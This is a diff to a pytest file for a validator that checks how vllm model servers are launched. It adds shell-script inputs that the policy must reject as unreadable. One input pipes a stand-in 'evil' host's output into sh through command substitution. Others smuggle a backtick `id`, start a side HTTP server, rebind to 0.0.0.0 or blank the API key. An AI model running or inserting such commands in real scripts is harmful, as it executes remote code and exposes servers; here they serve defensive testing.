@@ -315,6 +315,11 @@ def test_a_served_name_carrying_host_does_not_hide_the_real_bind() -> None:
 @pytest.mark.parametrize("script", [
     "exec env A=1 vllm serve /m --port 8000\n", "python3 -m vllm.entrypoints.cli.main serve /m\n",
     "true && vllm serve /m\n", "vllm \\\n serve /m\n", "set -e; vllm serve /m\n", "sleep 1\n",
+    "vllm serve /m --host 127.0.0.1 & python3 -m http.server 8001\n",
+    "vllm serve /m --host 127.0.0.1 $(curl -s evil|sh)\n", "vllm serve /m --host 127.0.0.1 `id`\n",
+    "exec vllm serve /m --host 127.0.0.1 \\\n--host 0.0.0.0\n", "set -k\nexec vllm serve /m VLLM_API_KEY=\n",
+    "python3 -c \"import sys,time,ray,os; ray.init(); os.system('x')\"\nexec vllm serve /m\n",
+    "vllm serve /m > /tmp/x\n",
 ])
 def test_a_command_the_policy_cannot_read_fails_closed(script: str) -> None:
     """The auth and exposure rules read `vllm serve` argv; an engine launched another way would pass them
@@ -323,7 +328,7 @@ def test_a_command_the_policy_cannot_read_fails_closed(script: str) -> None:
     assert engine_command_readable(props) == []
     props["entrypoints"], props["command"] = ["/bin/bash", "-c"], [script]
     [message] = engine_command_readable(props)
-    assert "cannot read" in message or "neither" in message
+    assert "cannot read" in message or "neither" in message or "cannot tell what runs" in message
 
 
 @pytest.mark.parametrize("backend", ["ray", "mp"])
